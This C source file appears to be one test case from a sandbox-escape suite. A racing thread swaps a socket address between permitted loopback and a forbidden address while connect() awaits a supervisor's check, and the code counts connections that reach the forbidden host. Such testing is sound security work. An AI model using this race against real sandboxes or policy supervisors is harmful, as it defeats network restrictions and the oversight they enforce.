/* E09 (sockaddr): a second thread rewrites the sockaddr buffer between
 * 127.0.0.1:PORT (loopback, allowed by verify) and EVIL:PORT while
 * connect() waits for the supervisor. Each connect that lands on EVIL is a
 * hit (the sink there records it too). Inside a private netns only. */
#include "esc.h"
#include <arpa/inet.h>
#include <pthread.h>
#include <sys/socket.h>

static struct sockaddr_in addr, good, evil;
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(&addr, &evil, sizeof(addr));
		__asm__ volatile("" ::: "memory");
		memcpy(&addr, &good, sizeof(addr));
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 4, "e09b_sockaddr_flip SECONDS EVILADDR PORT");
	double end = esc_now() + atof(argv[1]);
	good.sin_family = evil.sin_family = AF_INET;
	good.sin_port = evil.sin_port = htons((uint16_t)atoi(argv[3]));
	inet_pton(AF_INET, "127.0.0.1", &good.sin_addr);
	inet_pton(AF_INET, argv[2], &evil.sin_addr);
	addr = good;
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		attempts++;
		int s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0)
			break;
		if (connect(s, (struct sockaddr *)&addr, sizeof(addr)) == 0) {
			struct sockaddr_in peer;
			socklen_t len = sizeof(peer);
			ok++;
			if (getpeername(s, (struct sockaddr *)&peer, &len) == 0 &&
			    peer.sin_addr.s_addr == evil.sin_addr.s_addr) {
				hits++;
				if (write(s, "e09b\n", 5) < 0)
					perror("write");
			}
		}
		close(s);
	}
	stop = 1;
	pthread_join(t, NULL);
	esc_race_result(attempts, ok, hits);
	return 0;
}
